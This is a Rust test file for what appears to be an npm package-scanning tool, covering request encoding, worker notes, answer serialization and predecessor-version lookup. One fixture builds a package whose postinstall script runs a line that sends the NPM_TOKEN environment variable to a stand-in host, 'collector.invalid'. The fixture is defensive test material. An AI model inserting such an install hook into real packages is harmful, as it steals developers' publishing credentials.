use super::predecessor::predecessor;
use super::request::{Asked, AskedContent};
use super::*;
use lazaret_analysis::History;
use lazaret_npm::Version;

/// What a worker would answer, and its notes.
fn asked(request: &Request<'_>) -> (Answer, Vec<String>) {
    let encoded = request.encoded().unwrap();
    let mut notes = Vec::new();
    let answer = worker::answer(&encoded.pieces().concat(), &mut |note| {
        notes.push(String::from_utf8(note.to_vec()).unwrap());
    });
    (answer, notes)
}

fn files(files: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    let owned = |(path, text): &(&str, &str)| ((*path).to_owned(), text.as_bytes().to_vec());
    files.iter().map(owned).collect()
}

fn given(files: &[(String, Vec<u8>)]) -> Given<'_> {
    Given {
        content: Content::Files(files),
        manifest: None,
        incomplete: &[],
        published: false,
    }
}

fn request(packages: Vec<Given<'_>>) -> Request<'_> {
    Request {
        packages,
        history: None,
        excerpts: false,
        deadly: Vec::new(),
    }
}

#[test]
fn a_request_is_read_as_it_was_written() {
    let before = files(&[("package.json", "{}"), ("leer", ""), ("lib/ä.js", "a()")]);
    let history = History {
        publisher_after: Some("somebody".to_owned()),
        ..History::default()
    };
    let incomplete = ["a reason".to_owned()];
    let request = Request {
        packages: vec![
            given(&before),
            Given {
                content: Content::Tarball(b"\x1f\x8b and more"),
                manifest: Some("{\"name\":\"a\"}"),
                incomplete: &incomplete,
                published: true,
            },
        ],
        history: Some(&history),
        excerpts: true,
        deadly: Vec::new(),
    };
    let bytes = request.encoded().unwrap().pieces().concat();
    let read = Asked::read(&bytes).unwrap();
    assert_eq!(read.history, Some(history));
    assert!(read.excerpts);
    let AskedContent::Files(read_files) = &read.packages[0].content else {
        panic!("files stay files");
    };
    let read_files = read_files.iter();
    let read_files: Vec<_> = read_files
        .map(|(path, bytes)| (path.clone(), bytes.to_vec()))
        .collect();
    assert_eq!(read_files, before);
    let tarball = &read.packages[1];
    let AskedContent::Tarball(read_bytes) = &tarball.content else {
        panic!("a tarball stays a tarball");
    };
    assert_eq!(&read_bytes[..], b"\x1f\x8b and more");
    assert_eq!(tarball.manifest.as_deref(), Some("{\"name\":\"a\"}"));
    assert_eq!(tarball.incomplete, ["a reason"]);
    assert!(tarball.published && !read.packages[0].published);

    // Nothing shorter or longer is a request.
    for end in 0..bytes.len() {
        assert!(Asked::read(&bytes[..end]).is_none(), "{end} bytes");
    }
    assert!(Asked::read(&[&bytes[..], b"x"].concat()).is_none());
    assert!(matches!(worker::answer(b"", &mut |_| {}), Answer::Confused));
}

#[test]
fn each_file_is_noted_before_it_is_read() {
    let package = files(&[("package.json", "{\"name\":\"a\"}"), ("index.js", "b()")]);
    let (answer, notes) = asked(&request(vec![given(&package), given(&package)]));
    assert!(matches!(answer, Answer::Change { .. }));
    for note in ["0", "0index.js", "1", "1index.js", "1package.json"] {
        assert!(
            notes.iter().any(|noted| noted == note),
            "{note} in {notes:?}"
        );
    }
    assert_eq!(
        worker::read_note(b"1lib/a.js"),
        Some((1, Some("lib/a.js".to_owned())))
    );
    assert_eq!(worker::read_note(b"0"), Some((0, None)));
    assert_eq!(worker::read_note(b""), None);
}

#[test]
fn an_answer_survives_the_way_to_the_parent() {
    let package = files(&[
        (
            "package.json",
            "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node setup.js\"}}",
        ),
        (
            "setup.js",
            "fetch(\"https://collector.invalid/\" + process.env.NPM_TOKEN)",
        ),
    ]);
    let nothing = files(&[("package.json", "{\"name\":\"a\",\"version\":\"0.9.0\"}")]);
    for packages in [
        vec![given(&package)],
        vec![given(&nothing), given(&package)],
    ] {
        let (answer, _) = asked(&request(packages));
        let written = serde_json::to_string(&answer).unwrap();
        let read: Answer = serde_json::from_str(&written).unwrap();
        assert_eq!(serde_json::to_string(&read).unwrap(), written);
    }
}

#[test]
fn the_version_before_is_the_highest_lower_one_of_the_same_line() {
    let before = |version: &str, others: &[&str]| {
        let others: Vec<Version> = others
            .iter()
            .map(|other| Version::parse(other).unwrap())
            .collect();
        let version = Version::parse(version).unwrap();
        predecessor(&version, others.iter()).map(ToString::to_string)
    };
    let all = ["1.0.0", "5.5.9", "5.6.0", "5.6.1", "5.6.2-beta.1", "6.0.0"];
    assert_eq!(before("5.6.1", &all).as_deref(), Some("5.6.0"));
    assert_eq!(before("5.6.2", &all).as_deref(), Some("5.6.1"));
    assert_eq!(
        before("5.6.2-beta.2", &all).as_deref(),
        Some("5.6.2-beta.1")
    );
    assert_eq!(before("5.7.0", &all).as_deref(), Some("5.6.1"));
    assert_eq!(before("6.0.0", &all).as_deref(), Some("5.6.1"));
    assert_eq!(before("1.0.0", &all), None);
    assert_eq!(
        before("1.0.0", &["1.0.0-rc.1", "1.0.0-rc.2"]).as_deref(),
        Some("1.0.0-rc.2")
    );
}
